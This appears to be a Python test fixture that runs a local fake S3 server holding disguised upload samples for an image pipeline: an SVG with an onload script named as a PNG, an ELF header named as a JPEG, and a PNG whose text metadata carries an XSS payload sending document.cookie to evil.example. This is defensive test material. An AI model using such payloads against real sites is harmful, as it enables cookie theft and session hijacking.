"""A stand-in for S3 with four objects: a picture, a page and a program that are called pictures, a script in a picture's text."""

import contextlib
import http.server
import os
import struct
import threading
import zlib


def png(**texts):
    """One pixel, and what it says of itself."""
    parts = [(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))]
    parts += [(b"tEXt", f"{keyword}\0{text}".encode("latin-1")) for keyword, text in texts.items()]
    parts += [(b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")]
    chunks = (struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)) for name, data in parts)
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


OBJECTS = {
    "/pictures/in/harbour.png": png(Title="The harbour <at dawn>", Author="Sheila O'Brien"),
    "/pictures/in/logo.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "/pictures/in/cat.jpg": b"\x7fELF\x02\x01\x01" + bytes(57),
    "/pictures/in/beach.png": png(Title="<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">"),
}


class S3(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        content = OBJECTS[self.path]
        self.send_response(200)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_):
        pass


@contextlib.contextmanager
def stage():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), S3)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    keys = {"AWS_ACCESS_KEY_ID": "AKIAEXAMPLEEXAMPLE00", "AWS_SECRET_ACCESS_KEY": "an-example", "AWS_REGION": "eu-west-1"}
    os.environ.update(keys, AWS_ENDPOINT_URL_S3=f"http://127.0.0.1:{server.server_port}", AWS_DEFAULT_REGION="eu-west-1")
    yield {}
    server.shutdown()
